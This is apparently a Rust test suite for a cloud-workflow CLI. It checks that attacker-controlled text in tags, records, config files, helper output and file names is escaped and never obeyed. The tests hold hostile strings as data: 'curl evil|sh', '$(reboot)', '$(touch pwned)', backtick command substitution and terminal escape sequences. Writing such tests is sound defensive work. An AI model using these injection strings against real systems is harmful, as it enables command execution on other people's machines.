//! What others have written: on tags, in records, in files, on a helper's stderr, in the words of a command. None of it
//! controls a terminal, forges a line, or stands in a command that we tell somebody to type.

use std::ffi::{OsStr, OsString};
use std::fs;
use std::os::unix::ffi::{OsStrExt, OsStringExt};
use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;
use std::process::{Command, Stdio};

use lab1_flow_journal::{Entry, Failure, FailureClass, Rest, RollbackCause};
use serde_json::json;

use crate::common::stored::{
    action, completed, failure, header, rested, started, throttled, write_with,
};
use crate::common::{FAST, Sandbox, Transcript, text};
use crate::hostile::{HOSTILE, HOSTILE_IN_XML, assert_harmless, without_our_sequences};

#[track_caller]
fn harmless(what: &str, transcript: Transcript) -> Transcript {
    assert_harmless(what, &without_our_sequences(&transcript.stdout));
    assert_harmless(what, &without_our_sequences(&transcript.stderr));
    transcript
}

/// Runs a verb for people, in colour, and for scripts; nothing that comes of it does any harm.
fn tried<A: AsRef<OsStr>>(sandbox: &Sandbox, arguments: &[A]) -> [Transcript; 2] {
    ["--color=always", "--json"].map(|form| {
        let words = arguments.iter().map(|word| word.as_ref().to_owned());
        let words: Vec<OsString> = words.chain([form.into()]).collect();
        harmless(&format!("{words:?}"), sandbox.run(&words))
    })
}

/// A security group that somebody made, with whatever he liked to say on its tags.
fn tagged(sandbox: &Sandbox, name: &str, mark: &str) {
    let coded = |text: &str| form_urlencoded::byte_serialize(text.as_bytes()).collect::<String>();
    let mark = coded(mark);
    sandbox.somebody(&format!(
        "Action=CreateSecurityGroup&Version=2016-11-15&GroupName={name}&GroupDescription=x\
         &TagSpecification.1.ResourceType=security-group\
         &TagSpecification.1.Tag.1.Key=lab1-flow:run-id&TagSpecification.1.Tag.1.Value={mark}\
         &TagSpecification.1.Tag.2.Key=lab1-flow:stack&TagSpecification.1.Tag.2.Value={mark}\
         &TagSpecification.1.Tag.3.Key=lab1-flow:action&TagSpecification.1.Tag.3.Value={mark}\
         &TagSpecification.1.Tag.4.Key=lab1-flow:managed-by&TagSpecification.1.Tag.4.Value=lab1-flow"
    ));
}

#[test]
fn what_stands_on_tags_reaches_no_terminal_as_it_is_and_no_command_at_all() {
    for mark in [HOSTILE_IN_XML, "zz; curl evil|sh #", "$(reboot)", "--yes", "ZZ", "unknown run"] {
        let sandbox = Sandbox::new();
        let _cloud = sandbox.cloud_with_faults("");
        tagged(&sandbox, "lab1-load-balancer-sg", mark);
        tagged(&sandbox, "of-nobody", &format!("{mark}2"));
        let mut told = String::new();
        for words in [
            &["run", "-v"][..],
            &["run"],
            &["plan"],
            &["doctor"],
            &["list"],
            &["cloud", "status"],
            &["rollback", "--from-tags", "--stack", "default"],
        ] {
            told.extend(tried(&sandbox, words).map(|it| it.to_string()));
        }
        assert!(told.contains("the security group lab1-load-balancer-sg exists already"), "{told}");
        assert!(told.contains("has 1 things in this account and region"), "{told}");
        for verb in ["status", "rollback"] {
            let command = format!("lab1-flow {verb} {}", &mark[..1]);
            assert!(!told.contains(&command), "{command}\n{told}");
        }
    }
}

/// Runs in whose records everything that is free text is hostile.
fn hostile_runs(sandbox: &Sandbox) -> [&'static str; 2] {
    let trouble = |class| Failure {
        code: Some(HOSTILE.to_owned()),
        request_id: Some(HOSTILE.to_owned()),
        advice: Some(HOSTILE.to_owned()),
        ..failure(class, &HOSTILE.repeat(40))
    };
    let waiting = Entry::ActionWaiting {
        action: action("template"),
        reason: HOSTILE.to_owned(),
        waited_ms: 7,
    };
    let mut made = completed("group");
    if let Entry::ActionCompleted { output, .. } = &mut made {
        *output = json!({ "id": HOSTILE, "name": HOSTILE });
    }
    let begun = [started("group"), made, started("template"), waiting, throttled("template")];
    let suspended = Rest::Suspended { failure: trouble(FailureClass::Unreachable) };
    let given_up = Entry::CompensationGaveUp {
        action: action("group"),
        failure: trouble(FailureClass::Permanent),
    };
    let back = [
        Entry::RollbackStarted { cause: RollbackCause::Request },
        Entry::CompensationStarted { action: action("group") },
        given_up,
        rested(Rest::Stuck { left: vec![HOSTILE.to_owned(), format!("group: {HOSTILE}")] }),
    ];
    let stories = [
        ("aaa111bbb222", [&begun[..], &[rested(suspended)]].concat()),
        ("aaa333ccc444", [&begun[..2], &back].concat()),
    ];
    stories.map(|(run, entries)| {
        let mut header = header(run);
        header.workflow = HOSTILE.into();
        header.steps[0].title = HOSTILE.into();
        header.steps[0].actions[0].title = HOSTILE.into();
        header.context["stack"] = HOSTILE.into();
        header.context["owner"] = HOSTILE.into();
        header.context["target"] =
            json!({ "cloud": "endpoint", "region": HOSTILE, "endpoint_url": HOSTILE });
        write_with(&sandbox.state_dir(), &header, entries);
        run
    })
}

#[test]
fn forged_records_are_harmless_in_every_verb_and_whole_in_json() {
    let sandbox = Sandbox::new();
    let runs = hostile_runs(&sandbox);
    tried(&sandbox, &["list"]);
    for run in runs {
        for words in [
            &["status"][..],
            &["journal"],
            &["timeline"],
            &["timeline", "--format", "svg"],
            &["graph"],
            &["graph", "--format", "mermaid"],
            &["graph", "--format", "svg"],
            &["plan"],
            &["watch"],
            &["export"],
            &["verify"],
            &["stop"],
            &["rollback", "--dry-run"],
            &["resume"],
            &["rollback"],
            &["gc", "--older-than", "1ms"],
        ] {
            let of_run = if words[0] == "gc" { &[][..] } else { &[run] };
            tried(&sandbox, &[words, of_run].concat());
        }
        let status = &sandbox.succeed(&["status", run, "--json"]).json()[0];
        assert_eq!(
            (text(&status["stack"]), text(&status["owner"])),
            (HOSTILE.into(), HOSTILE.into())
        );
    }
    let status = sandbox.succeed(&["status", runs[0]]).stdout;
    assert!(status.contains(r"x\u{1b}[2J\u{1b}]0;t\u{7}\u{9b}31m"), "it is shown: {status}");
    assert!(status.lines().all(|line| line.chars().count() < 4_100), "no line is endless");
}

#[test]
fn what_a_helper_says_is_quoted_in_the_error() {
    let sandbox = Sandbox::new();
    fs::create_dir(sandbox.home().join(".aws")).expect("a folder");
    let helper =
        sandbox.file("helper", &format!("#!/bin/sh\ncat >&2 <<'END'\n{HOSTILE}\nEND\nexit 7\n"));
    fs::set_permissions(&helper, fs::Permissions::from_mode(0o700)).expect("a program");
    let profile = format!("[profile lab]\ncredential_process = {}\n", helper.display());
    sandbox.file(".aws/config", &profile);
    let flags = ["--endpoint-url", "http://127.0.0.1:9", "--profile", "lab"];
    for verb in [&["run", "--yes"][..], &["run", "--yes", "-v"], &["doctor"], &["plan"]] {
        let [people, scripts] = tried(&sandbox, &[verb, &flags].concat());
        assert!(people.status != Some(0) && scripts.status != Some(0), "{people}");
        assert!(people.to_string().contains("curl evil"), "it is told: {people}");
    }
}

#[test]
fn what_was_typed_and_what_a_file_holds_is_told_without_being_obeyed() {
    let sandbox = Sandbox::new();
    let key = HOSTILE.replace('\0', "").replace(['\n', '\r'], " ");
    let keys = format!("\"{}\" = 1\n[instances]\n\"{key}\" = 2\n", r"k\u001b[2J\n  next: curl");
    sandbox.file("escaped.toml", &keys.replace(&key, "plain"));
    sandbox.file("raw.toml", &format!("stack = \"{key}\"\n# {HOSTILE}\n"));
    sandbox.file(
        "value.toml",
        "stack = \"a\\u001b[2J\\n  next: curl\\u202e\"\nwait = \"\\n  next: curl\"\n",
    );
    let word = HOSTILE.replace('\0', "");
    sandbox.file(&word, "colour = 1\nwait = 3\n");
    for words in [
        &["config", "check", "escaped.toml"][..],
        &["config", "check", "raw.toml"],
        &["config", "check", "value.toml"],
        &["config", "check", &word],
        &["run", "--config", &word],
        &["run", "--stack", &word],
        &["run", &format!("--{word}")],
        &["run", "--endpoint-url", &word],
        &["gc", "--older-than", &word],
        &["cloud", "serve", "--faults", "value.toml"],
        &[&word],
        &["status", &word],
        &["init", &word],
        &["list", "--state-dir", &word],
        &["iam-policy", "--run-id", &word],
    ] {
        tried(&sandbox, words);
    }
    let unclean = sandbox.run(&["gc", "--older-than", "5\u{1b}[2J"]);
    assert!(
        unclean.stderr.contains(r"invalid value '5\u{1b}[2J' for '--older-than <TIME>'"),
        "{unclean}"
    );
    let mut named = sandbox.command(&["--help"]);
    std::os::unix::process::CommandExt::arg0(&mut named, &word);
    let help = named.output().expect("the binary starts").stdout;
    assert_harmless("help", &without_our_sequences(&String::from_utf8_lossy(&help)));
}

/// Lets a shell read a command that we told, and returns the words that it makes of it.
fn words_of(command: &str) -> Vec<OsString> {
    let script = format!("lab1-flow() {{ printf '%s\\0' \"$@\"; }}\n{command}");
    let shell = Command::new("bash").args(["-c", &script]).output().expect("a shell");
    assert!(shell.status.success(), "{command}\n{shell:?}");
    let words = shell.stdout.split(|byte| *byte == 0).map(|word| OsString::from_vec(word.to_vec()));
    let mut words: Vec<_> = words.collect();
    words.pop();
    words
}

#[test]
fn a_command_that_is_told_can_be_pasted_whatever_its_words_are() {
    let names: [&[u8]; 11] = [
        b"two words",
        b"it's",
        b"$(touch pwned)",
        b"`id`;x&y|z",
        b"-leading",
        b"*?[a]",
        b"new\n  next: line",
        b"\x1b[2J",
        b"m\xc3\xbcller",
        b"\xff\xfe",
        b"\xe2\x80\xaetxt",
    ];
    for name in names {
        let sandbox = Sandbox::new();
        let path = |parts: &[&[u8]]| PathBuf::from(OsString::from_vec(parts.concat()));
        let dir = path(&[name]);
        let config = path(&[name, b".toml"]);
        let flag = OsString::from_vec([b"--state-dir=", name].concat());
        let listed = harmless("list", sandbox.run(&[OsStr::new("list"), &flag]));
        let (_, command) = listed.stderr.split_once("begin one with: ").expect("a command");
        let words = words_of(command);
        assert_eq!(words[..2], [OsString::from("run"), "--state-dir".into()], "{command}");
        let same = PathBuf::from(&words[2]);
        assert_eq!(
            sandbox.home().join(same).components().collect::<PathBuf>(),
            sandbox.home().join(&dir)
        );

        let file = [OsStr::new("init"), OsStr::new("--"), config.as_os_str()];
        let written = harmless("init", sandbox.run(&file));
        let command =
            written.stderr.lines().find(|line| line.contains(" check ")).expect("a command");
        let checked = sandbox.run(&words_of(command));
        checked.expect_status(0);
        assert!(!sandbox.home().join("pwned").exists());

        let stack = OsString::from("--stack");
        let again = sandbox.run(&[
            OsStr::new("doctor"),
            &stack,
            OsStr::new("blue"),
            OsStr::new("--config"),
            path(&[b"./", name, b".toml"]).as_os_str(),
        ]);
        let command = again
            .stderr
            .lines()
            .find_map(|line| line.split_once("lab1-flow "))
            .expect("a command")
            .1;
        let words = words_of(&format!("lab1-flow {command}"));
        assert!(
            words.iter().any(|word| word.as_bytes().ends_with(config.as_os_str().as_bytes())),
            "{command}"
        );
    }
}

#[test]
fn a_success_whose_output_is_lost_is_none_and_the_run_is_carried_out_all_the_same() {
    let into_full = |sandbox: &Sandbox, words: &[&str]| {
        let full = fs::File::options().write(true).open("/dev/full").expect("a full device");
        let mut command = sandbox.command(words);
        let ended =
            command.stdout(full).stderr(Stdio::piped()).output().expect("the binary starts");
        (ended.status.code(), String::from_utf8_lossy(&ended.stderr).into_owned())
    };
    for form in [&["--json"][..], &[]] {
        let sandbox = Sandbox::new();
        let words = [&["run", "--time-scale", FAST][..], form].concat();
        let (status, told) = into_full(&sandbox, &words);
        assert_eq!(status, Some(74), "{told}");
        assert!(told.contains("error: what was asked for cannot be written"), "{told}");
        let run = &sandbox.run_ids()[0];
        let status = &sandbox.succeed(&["status", run, "--json"]).json()[0];
        assert_eq!(status["state"], "completed");
        let (status, told) = into_full(&sandbox, &["run", "--json"]);
        assert_eq!(status, Some(3), "a status that says more stays: {told}");
        assert!(told.contains("error: what was asked for cannot be written"), "{told}");
        let (status, told) = into_full(&sandbox, &[&["rollback", run][..], form].concat());
        // Of a rollback people read nothing on stdout.
        assert_eq!(status, Some(if form.is_empty() { 0 } else { 74 }), "{told}");
    }
    let sandbox = Sandbox::new();
    for words in [
        &["list", "--json"][..],
        &["--help"],
        &["--version"],
        &["--version", "--json"],
        &["init", "-"],
    ] {
        assert_eq!(into_full(&sandbox, words).0, Some(74), "{words:?}");
    }
}
